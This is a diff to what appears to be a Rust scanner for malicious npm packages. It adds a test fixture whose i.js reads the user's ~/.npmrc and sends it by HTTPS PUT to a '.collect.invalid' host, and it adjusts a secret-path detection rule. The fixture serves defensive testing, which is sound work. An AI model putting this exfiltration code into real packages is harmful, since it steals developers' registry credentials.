@@ -125,6 +125,21 @@ exports.sync = (dir, remote) => {
             ],
         },
         Example {
+            name: "a caller names the first label of a fixed domain",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs"), os = require("os"), https = require("https");
+exports.load = (name) => https.request({ host: name.toLowerCase() + ".collect.invalid", method: "PUT" }).end(fs.readFileSync(os.homedir() + "/.npmrc"));"#,
+                ),
+            ],
+        },
+        Example {
             name: "a reader of the configuration that sends nothing",
             severity: None,
             files: &[
@@ -189,7 +204,12 @@ fn by_search(context: &Context<'_>, found: &mut Vec<Finding>) {
         "wallet.",
     ];
     let looks = |one: &&Behaviour| {
-        let secret = one.target.as_deref().and_then(targets::secret_path);
+        // A key for its own tests is nobody's.
+        let path = one
+            .target
+            .as_deref()
+            .filter(|path| !path.starts_with("<package>"));
+        let secret = path.and_then(targets::secret_path);
         matches!(one.what.id, "fs.metadata" | "fs.list" | "fs.read")
             && secret.is_some_and(|secret| CLASSES.iter().any(|id| secret.id.starts_with(id)))
     };
